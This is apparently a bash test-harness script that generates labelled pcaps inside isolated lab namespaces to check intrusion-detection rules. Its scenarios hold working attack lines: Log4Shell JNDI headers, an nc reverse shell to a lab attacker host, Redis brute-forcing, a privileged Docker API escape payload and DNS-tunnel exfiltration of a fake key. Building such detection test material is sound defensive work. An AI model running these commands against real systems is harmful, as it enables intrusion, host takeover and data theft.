#!/usr/bin/env bash
# Runs one lab scenario with real programs inside the pod namespaces and records it.
#
#   pcaps/lab/scenario.sh NAME|all        (root; brings the lab up with lab.sh if it is not)
#
# NAME: log4shell reverse-shell port-scan redis-bruteforce docker-api dns-tunnel benign
#
# Each scenario is recorded with tcpdump on node A's bridge (cn-br0 in cn-nodeA, promiscuous, so
# it sees same-node traffic and node A's side of cross-node traffic) into pcaps/lab/NAME.pcap,
# and described in pcaps/lab/NAME.expected.json (pods, addresses, ports, protocol, facts, and the
# alerts the shipped rules must raise on a replay of NAME.pcap — LabCapturesTest checks them). log4shell also
# records the cross-node request on node A's VXLAN device (NAME-overlay.pcap, decapsulated) and
# on the underlay veth (NAME-underlay.pcap, UDP 8472 with the VXLAN header).
#
# Debian packages: iproute2 ethtool tcpdump python3 curl netcat-openbsd nmap redis-server
#   redis-tools dnsmasq-base dnsutils iputils-ping
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
# where captures and expected files go (tests point this at a temp dir to leave pcaps/lab alone)
OUT=${CN_LAB_OUT:-$HERE}
RUN=/tmp/cn-lab
PY=/usr/bin/python3
WEB=10.244.1.10 REDIS=10.244.1.11 DNS=10.244.1.12 API=10.244.1.13 ACLIENT=10.244.1.20
EVIL=10.244.2.5 BCLIENT=10.244.2.10
REDIS_PASS='s3cr3t-Pa55'

die() { echo "scenario.sh: $*" >&2; exit 1; }
guard() { local n; for n in "$@"; do [[ $n == cn-* ]] || die "refusing to touch '$n': not a cn- name"; done; }
nsx() { local ns=$1; shift; guard "$ns"; ip netns exec "$ns" "$@"; }

PIDS=()
cleanup() {
  local p
  for p in "${PIDS[@]:-}"; do
    [[ -n $p ]] && kill "$p" 2>/dev/null || true
  done
  for p in "${PIDS[@]:-}"; do
    [[ -n $p ]] && wait "$p" 2>/dev/null || true
  done
  PIDS=()
}
trap cleanup EXIT

bg() { # ns logname cmd...  (starts a server in a pod; killed by cleanup)
  local ns=$1 log=$2; shift 2
  guard "$ns"
  # ip netns exec execs the command, so $! is the server itself
  ip netns exec "$ns" "$@" >"$RUN/$log.log" 2>&1 &
  PIDS+=($!)
}

wait_tcp() { # from_ns addr port
  local i
  for i in $(seq 1 50); do
    nsx "$1" nc -z -w 1 "$2" "$3" 2>/dev/null && return 0
    sleep 0.1
  done
  die "nothing listens on $2:$3"
}

REC=()
record_start() { # node iface file
  local node=$1 dev=$2 file=$3
  rm -f "$file"
  guard "$node" "$dev"
  ip netns exec "$node" tcpdump -i "$dev" -s 0 -U -Z root -w "$file" >"$RUN/tcpdump-$(basename "$file").log" 2>&1 &
  REC+=($!)
  PIDS+=($!)
}
record_wait_ready() { sleep 1.5; }
record_stop() {
  sleep 0.5
  local p
  for p in "${REC[@]}"; do kill -INT "$p" 2>/dev/null || true; done
  for p in "${REC[@]}"; do wait "$p" 2>/dev/null || true; done
  REC=()
}

expected() { # name protocol json-body-lines (facts, flows)
  local name=$1
  cat >"$OUT/$name.expected.json"
}

# ---------------------------------------------------------------------------------------------
sc_log4shell() {
  bg cn-a-web web "$PY" "$HERE/servers/web.py" $WEB 8080
  wait_tcp cn-a-client $WEB 8080
  record_start cn-nodeA cn-br0 "$OUT/log4shell.pcap"
  record_start cn-nodeA cn-vx0 "$OUT/log4shell-overlay.pcap"
  record_start cn-nodeA cn-ul0 "$OUT/log4shell-underlay.pcap"
  record_wait_ready
  nsx cn-a-client curl -s -o /dev/null -H 'X-Api-Version: ${jndi:ldap://10.244.2.5:1389/a}' "http://$WEB:8080/"
  nsx cn-b-client curl -s -o /dev/null -H 'X-Api-Version: ${jndi:ldap://10.244.2.5:1389/a}' "http://$WEB:8080/"
  record_stop
  expected log4shell <<JSON
{
  "scenario": "log4shell",
  "pcap": "log4shell.pcap",
  "captured_on": "cn-br0 in cn-nodeA (bridge, promiscuous)",
  "also": {"log4shell-overlay.pcap": "cn-vx0 in cn-nodeA: the cross-node request only, decapsulated",
           "log4shell-underlay.pcap": "cn-ul0 in cn-nodeA: the cross-node request in VXLAN (UDP 8472, VNI 1) between 192.168.56.11 and 192.168.56.10"},
  "flows": [
    {"src": "$ACLIENT", "src_pod": "cn-a-client", "dst": "$WEB", "dst_pod": "cn-a-web", "dst_port": 8080, "proto": "TCP", "app": "http", "path": "same-node"},
    {"src": "$BCLIENT", "src_pod": "cn-b-client", "dst": "$WEB", "dst_pod": "cn-a-web", "dst_port": 8080, "proto": "TCP", "app": "http", "path": "cross-node (VXLAN 8472, VNI 1)"}
  ],
  "facts": {"http_requests": 2, "method": "GET", "uri": "/", "header": "X-Api-Version: \${jndi:ldap://10.244.2.5:1389/a}", "ldap_callback_target": "10.244.2.5:1389", "http_status": 200,
            "overlay": {"vni": 1, "udp_port": 8472, "outer_src": "192.168.56.11", "outer_dst": "192.168.56.10"}},
  "alerts": [{"sid": 9100001, "count": 2}]
}
JSON
}

sc_reverse_shell() {
  rm -f "$RUN/f"
  record_start cn-nodeA cn-br0 "$OUT/reverse-shell.pcap"
  record_wait_ready
  # attacker listener on node B; the victim (web pod, node A) connects back with sh -i
  { sleep 1; echo id; sleep 1; echo 'uname -a'; sleep 1; echo exit; } | ip netns exec cn-b-evil timeout 15 nc -l $EVIL 4444 >"$RUN/revshell.out" 2>&1 &
  local lpid=$!
  PIDS+=($lpid)
  sleep 0.5
  nsx cn-a-web timeout 15 sh -c "mkfifo $RUN/f; sh -i < $RUN/f 2>&1 | nc -N $EVIL 4444 > $RUN/f" || true
  wait $lpid || true
  rm -f "$RUN/f"
  record_stop
  grep -q 'uid=0' "$RUN/revshell.out" || die "reverse shell produced no id output"
  expected reverse-shell <<JSON
{
  "scenario": "reverse-shell",
  "pcap": "reverse-shell.pcap",
  "captured_on": "cn-br0 in cn-nodeA (bridge, promiscuous)",
  "flows": [
    {"src": "$WEB", "src_pod": "cn-a-web", "dst": "$EVIL", "dst_pod": "cn-b-evil", "dst_port": 4444, "proto": "TCP", "app": "interactive shell (sh -i over nc)", "path": "cross-node (VXLAN 8472, VNI 1)"}
  ],
  "facts": {"listener": "nc -l 10.244.2.5 4444 (cn-b-evil)", "shell": "sh -i piped to nc -N 10.244.2.5 4444 (cn-a-web)",
            "commands_sent": ["id", "uname -a", "exit"], "output_contains": "uid=0(root) gid=0(root)"},
  "alerts": [{"sid": 9100201, "count": 1}, {"sid": 9100206, "count": 1}, {"sid": 9100207, "count": 1}]
}
JSON
}

sc_port_scan() {
  bg cn-a-redis redis redis-server --bind $REDIS --port 6379 --protected-mode no --save '' --appendonly no --requirepass "$REDIS_PASS"
  bg cn-a-web web "$PY" "$HERE/servers/web.py" $WEB 80
  wait_tcp cn-a-client $REDIS 6379
  wait_tcp cn-a-client $WEB 80
  record_start cn-nodeA cn-br0 "$OUT/port-scan.pcap"
  record_wait_ready
  nsx cn-a-client nmap -sS -n -Pn -T4 --max-retries 0 -p 1-300 $WEB >"$RUN/nmap.out"
  nsx cn-a-client nmap -sS -n -Pn -T4 --max-retries 0 -p 1-100,6379 $REDIS >>"$RUN/nmap.out"
  record_stop
  grep -q '80/tcp *open' "$RUN/nmap.out" || die "nmap did not find port 80 open"
  expected port-scan <<JSON
{
  "scenario": "port-scan",
  "pcap": "port-scan.pcap",
  "captured_on": "cn-br0 in cn-nodeA (bridge, promiscuous)",
  "flows": [
    {"src": "$ACLIENT", "src_pod": "cn-a-client", "dst": "$WEB", "dst_pod": "cn-a-web", "dst_ports": "1-300", "proto": "TCP", "app": "nmap -sS (SYN scan)", "path": "same-node"},
    {"src": "$ACLIENT", "src_pod": "cn-a-client", "dst": "$REDIS", "dst_pod": "cn-a-redis", "dst_ports": "1-100,6379", "proto": "TCP", "app": "nmap -sS (SYN scan)", "path": "same-node"}
  ],
  "facts": {"scanner": "nmap -sS -T4 --max-retries 0", "syn_probes": 401, "open_ports": {"$WEB": [80], "$REDIS": [6379]}, "closed_reply": "RST/ACK"},
  "alerts": [{"sid": 9203001, "count": 2}]
}
JSON
}

sc_redis_bruteforce() {
  bg cn-a-redis redis redis-server --bind $REDIS --port 6379 --protected-mode no --save '' --appendonly no --requirepass "$REDIS_PASS"
  wait_tcp cn-b-client $REDIS 6379
  record_start cn-nodeA cn-br0 "$OUT/redis-bruteforce.pcap"
  record_wait_ready
  # one connection trying six passwords, then five connections with one wrong password each, then the right one
  printf 'AUTH admin\r\nAUTH password\r\nAUTH 123456\r\nAUTH redis\r\nAUTH letmein\r\nAUTH qwerty\r\nQUIT\r\n' \
    | nsx cn-b-client nc -N -w 2 $REDIS 6379 >"$RUN/redis.out" || true
  local pw
  for pw in root toor changeme foobared default; do
    nsx cn-b-client redis-cli --no-auth-warning -h $REDIS -a "$pw" PING >>"$RUN/redis.out" 2>&1 || true
  done
  nsx cn-b-client redis-cli --no-auth-warning -h $REDIS -a "$REDIS_PASS" CONFIG GET dir >>"$RUN/redis.out" 2>&1
  record_stop
  grep -q WRONGPASS "$RUN/redis.out" || die "no WRONGPASS reply"
  expected redis-bruteforce <<JSON
{
  "scenario": "redis-bruteforce",
  "pcap": "redis-bruteforce.pcap",
  "captured_on": "cn-br0 in cn-nodeA (bridge, promiscuous)",
  "flows": [
    {"src": "$BCLIENT", "src_pod": "cn-b-client", "dst": "$REDIS", "dst_pod": "cn-a-redis", "dst_port": 6379, "proto": "TCP", "app": "redis (RESP)", "path": "cross-node (VXLAN 8472, VNI 1)"}
  ],
  "facts": {"connections": 7, "failed_auth": 11, "failed_auth_reply": "-WRONGPASS invalid username-password pair or user is disabled.",
            "successful_auth": 1, "after_success": "CONFIG GET dir", "password": "$REDIS_PASS"},
  "alerts": [{"sid": 9100501, "count": 1}, {"sid": 9100509, "count": 1}, {"sid": 9204002, "count": 1}]
}
JSON
}

sc_docker_api() {
  bg cn-a-api dockerapi "$PY" "$HERE/servers/docker_api.py" $API 2375
  wait_tcp cn-a-client $API 2375
  record_start cn-nodeA cn-br0 "$OUT/docker-api.pcap"
  record_wait_ready
  nsx cn-a-client curl -s -o /dev/null "http://$API:2375/_ping"
  nsx cn-a-client curl -s -X POST -H 'Content-Type: application/json' \
    -d '{"Image":"alpine:3.19","Cmd":["sh","-c","chroot /host sh -c \"id > /tmp/pwned\""],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"NetworkMode":"host"}}' \
    "http://$API:2375/v1.41/containers/create" >"$RUN/docker.out"
  nsx cn-a-client curl -s -X POST "http://$API:2375/v1.41/containers/4f1c0ffee0dd/start" >>"$RUN/docker.out"
  record_stop
  grep -q '"Id"' "$RUN/docker.out" || die "no container id from the fake API"
  expected docker-api <<JSON
{
  "scenario": "docker-api",
  "pcap": "docker-api.pcap",
  "captured_on": "cn-br0 in cn-nodeA (bridge, promiscuous)",
  "flows": [
    {"src": "$ACLIENT", "src_pod": "cn-a-client", "dst": "$API", "dst_pod": "cn-a-api", "dst_port": 2375, "proto": "TCP", "app": "http (Docker Engine API)", "path": "same-node"}
  ],
  "facts": {"requests": ["GET /_ping", "POST /v1.41/containers/create", "POST /v1.41/containers/4f1c0ffee0dd/start"],
            "create_status": 201, "start_status": 204, "body_has": ["\"Privileged\":true", "\"Binds\":[\"/:/host\"]"]},
  "alerts": [{"sid": 9100101, "count": 1}, {"sid": 9100102, "count": 1}, {"sid": 9100104, "count": 1}, {"sid": 9100109, "count": 1}]
}
JSON
}

sc_dns_tunnel() {
  bg cn-a-dns dnsmasq dnsmasq --keep-in-foreground --no-resolv --no-hosts --bind-interfaces --listen-address=$DNS \
    --address=/tunnel.cn-lab.test/10.244.1.99 --host-record=web.cn-lab.test,$WEB --user=root \
    --pid-file="$RUN/dnsmasq.pid" --log-queries --log-facility=-
  sleep 1
  record_start cn-nodeA cn-br0 "$OUT/dns-tunnel.pcap"
  record_wait_ready
  # exfiltrate /etc/hostname + a fake key, base32 in 50-char labels, one query each (like dnscat/iodine)
  local data chunks i=0 c
  data=$(printf 'cn-lab exfil: AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY %s' "$(hostname)" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
  chunks=$(echo "$data" | fold -w 50)
  for c in $chunks; do
    nsx cn-b-client dig +short +tries=1 +time=1 @$DNS "$c.$i.x.tunnel.cn-lab.test" A >>"$RUN/dig.out" || true
    i=$((i + 1))
  done
  nsx cn-b-client dig +short +tries=1 +time=1 @$DNS "$(echo "$data" | cut -c1-60).txt.tunnel.cn-lab.test" TXT >>"$RUN/dig.out" || true
  record_stop
  grep -q 10.244.1.99 "$RUN/dig.out" || die "dnsmasq did not answer"
  expected dns-tunnel <<JSON
{
  "scenario": "dns-tunnel",
  "pcap": "dns-tunnel.pcap",
  "captured_on": "cn-br0 in cn-nodeA (bridge, promiscuous)",
  "flows": [
    {"src": "$BCLIENT", "src_pod": "cn-b-client", "dst": "$DNS", "dst_pod": "cn-a-dns", "dst_port": 53, "proto": "UDP", "app": "dns (dnsmasq)", "path": "cross-node (VXLAN 8472, VNI 1)"}
  ],
  "facts": {"queries": $((i + 1)), "qtype": ["A", "TXT"], "domain": "tunnel.cn-lab.test", "label_length": 50, "encoding": "base32 lowercase",
            "answer": "10.244.1.99"},
  "alerts": [{"sid": 9100403, "count": 3}]
}
JSON
}

sc_benign() {
  bg cn-a-web web "$PY" "$HERE/servers/web.py" $WEB 8080
  bg cn-a-redis redis redis-server --bind $REDIS --port 6379 --protected-mode no --save '' --appendonly no --requirepass "$REDIS_PASS"
  bg cn-a-dns dnsmasq dnsmasq --keep-in-foreground --no-resolv --no-hosts --bind-interfaces --listen-address=$DNS \
    --host-record=web.cn-lab.test,$WEB --host-record=redis.cn-lab.test,$REDIS --user=root --pid-file="$RUN/dnsmasq.pid" --log-facility=-
  wait_tcp cn-a-client $WEB 8080
  wait_tcp cn-a-client $REDIS 6379
  record_start cn-nodeA cn-br0 "$OUT/benign.pcap"
  record_wait_ready
  nsx cn-a-client dig +short +tries=1 +time=1 @$DNS web.cn-lab.test A >"$RUN/benign.out"
  nsx cn-a-client curl -s -o /dev/null -w '%{http_code}\n' "http://$WEB:8080/index.html" >>"$RUN/benign.out"
  nsx cn-b-client dig +short +tries=1 +time=1 @$DNS redis.cn-lab.test A >>"$RUN/benign.out"
  nsx cn-b-client curl -s -o /dev/null -w '%{http_code}\n' -H 'User-Agent: kube-probe/1.29' "http://$WEB:8080/healthz" >>"$RUN/benign.out"
  nsx cn-b-client redis-cli --no-auth-warning -h $REDIS -a "$REDIS_PASS" SET session:42 '{"user":"alice"}' >>"$RUN/benign.out"
  nsx cn-a-client redis-cli --no-auth-warning -h $REDIS -a "$REDIS_PASS" GET session:42 >>"$RUN/benign.out"
  nsx cn-a-client ping -q -c 3 -i 0.2 $BCLIENT >/dev/null
  record_stop
  grep -q alice "$RUN/benign.out" || die "redis GET failed"
  expected benign <<JSON
{
  "scenario": "benign",
  "pcap": "benign.pcap",
  "captured_on": "cn-br0 in cn-nodeA (bridge, promiscuous)",
  "flows": [
    {"src": "$ACLIENT", "src_pod": "cn-a-client", "dst": "$DNS", "dst_port": 53, "proto": "UDP", "app": "dns", "path": "same-node"},
    {"src": "$ACLIENT", "src_pod": "cn-a-client", "dst": "$WEB", "dst_port": 8080, "proto": "TCP", "app": "http GET /index.html", "path": "same-node"},
    {"src": "$BCLIENT", "src_pod": "cn-b-client", "dst": "$DNS", "dst_port": 53, "proto": "UDP", "app": "dns", "path": "cross-node (VXLAN 8472, VNI 1)"},
    {"src": "$BCLIENT", "src_pod": "cn-b-client", "dst": "$WEB", "dst_port": 8080, "proto": "TCP", "app": "http GET /healthz (kube-probe)", "path": "cross-node (VXLAN 8472, VNI 1)"},
    {"src": "$BCLIENT", "src_pod": "cn-b-client", "dst": "$REDIS", "dst_port": 6379, "proto": "TCP", "app": "redis AUTH + SET", "path": "cross-node (VXLAN 8472, VNI 1)"},
    {"src": "$ACLIENT", "src_pod": "cn-a-client", "dst": "$REDIS", "dst_port": 6379, "proto": "TCP", "app": "redis AUTH + GET", "path": "same-node"},
    {"src": "$ACLIENT", "src_pod": "cn-a-client", "dst": "$BCLIENT", "proto": "ICMP", "app": "ping x3", "path": "cross-node (VXLAN 8472, VNI 1)"}
  ],
  "facts": {"http_status": 200, "dns_answers": {"web.cn-lab.test": "$WEB", "redis.cn-lab.test": "$REDIS"}, "redis": "correct password only"},
  "alerts": []
}
JSON
}

ALL=(log4shell reverse-shell port-scan redis-bruteforce docker-api dns-tunnel benign)

run_one() {
  local name=$1 fn
  fn="sc_${name//-/_}"
  declare -F "$fn" >/dev/null || die "unknown scenario '$name' (one of: ${ALL[*]} all)"
  "$fn"
  cleanup
  local f
  for f in "$OUT/$name"*.pcap; do
    printf '%-28s %7d bytes\n' "$(basename "$f")" "$(stat -c %s "$f")"
  done
}

[[ $(id -u) == 0 ]] || die "must run as root (network namespaces)"
[[ $# == 1 ]] || die "usage: $0 NAME|all   (NAME: ${ALL[*]})"
for c in tcpdump curl nc nmap redis-server redis-cli dnsmasq dig ethtool "$PY"; do
  command -v "$c" >/dev/null 2>&1 || die "missing '$c': apt-get install -y iproute2 ethtool tcpdump python3 curl netcat-openbsd nmap redis-server redis-tools dnsmasq-base dnsutils iputils-ping"
done
mkdir -p "$RUN" "$OUT"
"$HERE/lab.sh" status >/dev/null 2>&1 || "$HERE/lab.sh" up
if [[ $1 == all ]]; then
  for s in "${ALL[@]}"; do run_one "$s"; done
else
  run_one "$1"
fi
